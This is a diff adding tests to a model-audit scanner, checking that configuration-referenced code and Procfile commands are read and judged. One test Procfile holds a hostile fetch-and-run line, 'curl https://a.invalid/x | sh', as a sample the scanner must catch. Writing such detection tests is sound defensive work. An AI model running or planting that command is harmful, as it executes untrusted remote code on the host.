@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import pickle
 from pathlib import Path
 
 from support.cases import check_each
@@ -63,4 +64,13 @@ def test_name_that_no_file_of_the_model_defines_stays_unverified(tmp_path: Path,
 def test_code_that_a_configuration_names_is_judged_as_loaded(tmp_path: Path) -> None:
     (tmp_path / "model-settings.json").write_text(_settings("acme_runtime.Runtime"))
     (tmp_path / "acme_runtime.py").write_text(f"import os\nos.system('touch x')\n{_RUNTIME}")
+    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1
+
+
+def test_path_of_data_and_commands_of_a_procfile_are_read(tmp_path: Path) -> None:
+    (tmp_path / "model-settings.json").write_text(json.dumps({"name": "a", "parameters": {"uri": "./model.joblib"}}))
+    (tmp_path / "model.joblib").write_bytes(pickle.dumps({"a": 1}))
+    (tmp_path / "Procfile").write_text("web: gunicorn app:app\nrelease: python migrate.py\n")
+    assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 0
+    (tmp_path / "Procfile").write_text("web: curl https://a.invalid/x | sh\n")
     assert modelaudit.scan(tmp_path, second_opinion=False).exit_code == 1
